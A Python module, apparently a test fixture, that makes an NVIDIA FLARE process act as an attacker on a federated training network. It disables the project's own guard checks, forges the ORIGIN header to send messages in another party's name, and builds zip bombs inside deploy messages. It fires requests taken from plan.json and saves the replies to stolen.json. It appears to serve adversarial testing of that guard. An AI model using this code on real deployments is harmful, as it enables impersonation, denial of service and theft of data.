"""An attacker's own FLARE process: no guard of its own, and it sends whatever stands in `plan.json` of its workspace,
to whom and in whose name it likes. What comes back is written to `stolen.json`, by the number of the request."""

import sys

if "vitrail.deploy.transport.flare.process" in sys.orig_argv:
    import io
    import json
    import os
    import threading
    import time
    import zipfile

    from nvflare.fuel.f3.cellnet.core_cell import CoreCell
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.fuel.f3.cellnet.utils import new_cell_message
    from nvflare.fuel.f3.message import Message as CellMessage
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import RequestHeader

    from vitrail.deploy.transport.flare import guard as flare_guard

    flare_guard.problem_of = lambda *_: ""
    flare_guard._trim_requests = lambda: None
    send = CoreCell._send_to_endpoint

    def send_as(self, to_endpoint, message):
        if claimed := message.headers.pop("claimed", None):
            message.set_header(MessageHeaderKey.ORIGIN, claimed)
        return send(self, to_endpoint, message)

    CoreCell._send_to_endpoint = send_as

    def bomb(megabytes):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
            file.writestr("bomb", b"\0" * (megabytes << 20))
        told = Message("train.deploy", packed.getvalue())
        for key, value in (
            (RequestHeader.JOB_META, {"x": 1}),
            (RequestHeader.JOB_ID, "j"),
            (RequestHeader.APP_NAME, "a"),
        ):
            told.set_header(key, value)
        return told

    def ask(cell, item, found):
        headers = {**item.get("headers", {}), **({"claimed": item["claimed"]} if item.get("claimed") else {})}
        body = bomb(item["bomb"]) if "bomb" in item else Message(*item["admin"]) if "admin" in item else None
        try:
            answer = cell.send_request(
                channel=item["channel"],
                topic=item["topic"],
                target=item["target"],
                request=new_cell_message(headers, body) if body else CellMessage(headers, {}),
                timeout=item.get("timeout", 4.0),
            )
            code = answer.get_header(MessageHeaderKey.RETURN_CODE)
            found[item["number"]] = [str(code), str(getattr(answer.payload, "body", answer.payload))[:2000]]
        except Exception as error:
            found[item["number"]] = [type(error).__name__, str(error)]

    def attack():
        while not CoreCell.ALL_CELLS:
            time.sleep(0.1)
        cell = next(iter(CoreCell.ALL_CELLS.values()))
        while True:
            time.sleep(0.2)
            if not os.path.exists("plan.json"):
                continue
            with open("plan.json") as file:
                plan = json.load(file)
            os.remove("plan.json")
            found = {}
            threads = [threading.Thread(target=ask, args=(cell, item, found)) for item in plan]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            with open("stolen.new", "w") as file:
                json.dump(found, file)
            os.replace("stolen.new", "stolen.json")

    if any(word.endswith(("client_train", "server_train")) for word in sys.orig_argv):
        threading.Thread(target=attack, daemon=True).start()
